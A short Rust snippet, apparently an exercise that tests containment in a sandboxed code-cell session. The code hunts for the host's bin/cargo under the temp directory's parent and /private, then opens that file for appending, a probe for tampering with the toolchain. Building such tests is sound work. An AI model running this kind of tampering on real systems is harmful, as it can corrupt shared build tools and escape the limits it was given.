// attack: writes to the program that tells the session which library the next cell was compiled to
// exercise: where-to
// ends with: contained
// then the solution
let of_cells = std::env::temp_dir();
let mut folders = vec![of_cells.parent().expect("a folder").to_owned()];
folders.extend(std::fs::read_dir("/private").into_iter().flatten().flatten().map(|entry| entry.path()));
let script = folders.iter().map(|folder| folder.join("bin/cargo")).find(|path| path.exists()).expect("a session");
std::fs::OpenOptions::new().append(true).open(script).expect("contained");
